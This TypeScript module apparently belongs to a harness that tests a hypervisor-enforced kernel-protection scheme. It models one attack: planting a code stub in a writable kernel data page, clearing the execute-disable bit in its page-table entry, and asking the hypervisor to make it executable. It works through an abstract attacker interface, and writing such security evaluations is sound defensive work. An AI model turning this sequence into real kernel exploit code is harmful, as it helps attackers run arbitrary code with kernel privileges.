import type { Attack } from './attack.ts';
import { EXECUTE_DISABLE } from './attacker.ts';
import { judge, notTried, withEditedEntries } from './technique.ts';

/** MOV EAX, 0x600dc0de; RET; NOP; NOP: what an attacker's code begins with. */
const CODE = 0x9090_c360_0dc0_deb8n;

/**
 * Whoever runs in the kernel may ask as the kernel does: what the hypervisor grants a page when the kernel loads code into it, it grants
 * the attacker's page as well, because it cannot tell one code from the other (Heki v2 00/19, the discussion of 27 November 2023).
 */
export const askForExecution = {
  name: 'ask-for-execution',
  title: 'store code to data, ask for r-x, execute it',
  meaning: 'whatever the attacker put into memory runs as the kernel, by permission',
  part: 'data',
  run(attacker, { data }) {
    if (data === undefined) return notTried('no writable page of the kernel image was found');
    const frame = attacker.frameOf(data);
    if (frame === undefined)
      return notTried('the page-table entries cannot be reached through the direct map', data);
    const before = attacker.load(data, 8).value;
    const { step } = attacker.store(data, 8, CODE);
    if (step.outcome !== 'done') return judge(step, data, '');
    let asked: bigint | undefined;
    const verdict = withEditedEntries(
      attacker,
      data,
      (value) => value & ~EXECUTE_DISABLE,
      () => {
        // A hypervisor that lists addresses takes them as they are mapped when it is asked.
        asked = attacker.ask(frame, 1, 'r-x').value;
        return judge(attacker.execute(data).step, data, 'the processor fetched the data as code');
      },
    );
    if (asked === 0n) attacker.ask(frame, 1, 'rw-');
    if (before !== undefined) attacker.store(data, 8, before);
    if (asked === undefined || asked === 0n || verdict.outcome === 'succeeded') return verdict;
    return { ...verdict, reason: `the hypervisor refused (${asked}), and ${verdict.reason}` };
  },
} as const satisfies Attack;
